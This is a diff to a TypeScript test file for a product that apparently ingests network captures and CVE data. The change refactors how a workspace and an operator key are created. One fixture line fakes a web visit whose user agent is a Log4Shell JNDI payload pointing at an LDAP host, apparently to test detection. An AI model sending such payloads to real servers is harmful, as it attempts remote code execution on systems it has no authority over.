@@ -3,8 +3,6 @@ import { afterAll, beforeAll, expect, test } from 'vitest'
 import { cveSources } from '#sources/cve/all.ts'
 import { importCveSource } from '#sources/cve/import.ts'
 import { samples } from '#sources/cve/testing/samples.ts'
-import { createKey } from '#store/app/keys.ts'
-import { createWorkspace } from '#store/app/workspaces.ts'
 import { captureOf, webVisit } from '../product/captures.ts'
 import { openInside, type Inside } from '../product/inside.ts'
 import { violations } from './accessible.ts'
@@ -31,8 +29,8 @@ beforeAll(async () => {
       [one(samples[source.name]?.content ?? '')],
       { now },
     )
-  const workspace = await createWorkspace(deps.db, { name: 'Own', publish: true, now })
-  const { secret } = await createKey(deps.db, { workspace: workspace.id, role: 'operator', now })
+  const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
+  const { secret } = await deps.installation.keys.create({ workspace: workspace.id, role: 'operator', now })
   const jndi = { uri: '/', userAgent: '${jndi:ldap://203.0.113.5/a}' }
   const body = new Uint8Array(captureOf([webVisit('198.18.7.1', jndi, now - 60_000)]))
   const taken = await fetch(new URL('/api/ingest/captures', inside.url), {
